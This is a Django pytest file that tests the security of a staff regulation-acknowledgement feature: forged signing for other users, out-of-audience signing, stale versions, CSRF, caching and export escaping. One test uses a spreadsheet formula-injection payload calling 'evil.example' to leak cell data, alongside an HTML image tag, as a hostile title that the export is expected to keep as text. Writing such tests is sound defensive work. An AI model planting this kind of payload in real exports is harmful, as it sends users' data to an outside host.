"""Attacks on 签收: signing for someone else, for a version that does not apply, a forged or stale post."""

import pytest

from policies.models import Acknowledgement

pytestmark = pytest.mark.django_db


def test_a_user_cannot_acknowledge_for_someone_else(regulation, user_with, verified_client):
    attacker, victim = user_with(0, username="attacker"), user_with(0, username="victim")
    page = regulation()
    victim_row = Acknowledgement.objects.get(user=victim)
    verified_client(attacker).post(
        page.url + "acknowledge/",
        {"version": "1", "confirm": "yes", "user": victim.pk, "user_id": victim.pk, "ack": victim_row.pk},
    )
    victim_row.refresh_from_db()
    assert victim_row.acknowledged_at is None
    assert Acknowledgement.objects.get(user=attacker).acknowledged_at is not None  # only their own row


def test_a_version_that_does_not_apply_cannot_be_signed(regulation, user_with, department, verified_client):
    """O03: a user outside the audience gets a deny when trying to sign."""
    rd = department("研发部", "rd")
    outsider = user_with(0, username="outsider")
    page = regulation(audience_all_staff=False, audience_departments=[rd])
    response = verified_client(outsider).post(page.url + "acknowledge/", {"version": "1", "confirm": "yes"})
    assert response.status_code == 403
    assert "no-store" in response["Cache-Control"] or "no-cache" in response["Cache-Control"]
    assert not Acknowledgement.objects.filter(user=outsider).exists()


def test_signing_twice_or_a_stale_version_or_without_ticking_does_nothing(
    regulation, publish, user_with, verified_client
):
    reader = user_with(0)
    page = regulation()
    client = verified_client(reader)
    client.post(page.url + "acknowledge/", {"version": "1"})  # box not ticked
    assert Acknowledgement.objects.get(user=reader).acknowledged_at is None
    publish(page, articles=[("第一条", "新版本")])
    client.post(page.url + "acknowledge/", {"version": "1", "confirm": "yes"})  # read v1, v2 is current
    assert not Acknowledgement.objects.filter(user=reader, acknowledged_at__isnull=False).exists()
    client.post(page.url + "acknowledge/", {"version": "2", "confirm": "yes"})
    signed = Acknowledgement.objects.get(user=reader, acknowledged_at__isnull=False)
    first_time = signed.acknowledged_at
    assert client.post(page.url + "acknowledge/", {"version": "2", "confirm": "yes"}).status_code == 403
    signed.refresh_from_db()
    assert signed.acknowledged_at == first_time


def test_acknowledge_needs_post_csrf_and_a_verified_session(regulation, user_with, verified_client, client):
    reader = user_with(0)
    page = regulation()
    url = page.url + "acknowledge/"
    assert verified_client(reader).get(url).status_code == 405
    assert client.post(url, {"version": "1", "confirm": "yes"}).status_code == 302  # anonymous → login
    from django.test import Client

    strict = Client(enforce_csrf_checks=True)
    strict.cookies = verified_client(reader).cookies
    assert strict.post(url, {"version": "1", "confirm": "yes"}).status_code == 403
    assert Acknowledgement.objects.get(user=reader).acknowledged_at is None


def test_refusals_on_the_acknowledge_route_are_never_cached(regulation, user_with, verified_client):
    reader = user_with(0)
    page = regulation()
    url = page.url + "acknowledge/"
    response = verified_client(reader).get(url)
    assert response.status_code == 405 and "no-store" in response["Cache-Control"]
    from django.test import Client

    strict = Client(enforce_csrf_checks=True)
    strict.cookies = verified_client(reader).cookies
    refused = strict.post(url, {"version": "1", "confirm": "yes"})
    assert refused.status_code == 403 and "no-store" in refused["Cache-Control"]
    assert "无权访问" in refused.content.decode()
    served = verified_client(reader).get(page.url)
    assert "private" in served["Cache-Control"]


def test_evidence_exports_treat_titles_as_text(regulation, user_with, verified_client, publish):
    """A title with markup or a formula stays text in the PDF and the Excel export (no image, no formula)."""
    import io

    from django.contrib.auth.models import Permission
    from openpyxl import load_workbook

    reader = user_with(0, username="reader")
    admin = user_with(0, username="office")
    admin.user_permissions.add(
        Permission.objects.get(codename="access_admin"), Permission.objects.get(codename="view_acknowledgement")
    )
    page = regulation(title='=HYPERLINK("http://evil.example/?x="&A4,"点击") <img src="/etc/x.png"/> A <B')
    client = verified_client(admin)
    pdf = client.get(f"/admin/policies/acknowledgements/person/{reader.pk}/evidence.pdf")
    assert pdf.status_code == 200 and b"/Subtype /Image" not in pdf.content
    version = page.versions.get()
    xlsx = client.get(f"/admin/policies/acknowledgements/{version.pk}/?format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith("=HYPERLINK")]
    assert cells and all(cell.data_type == "s" for cell in cells)
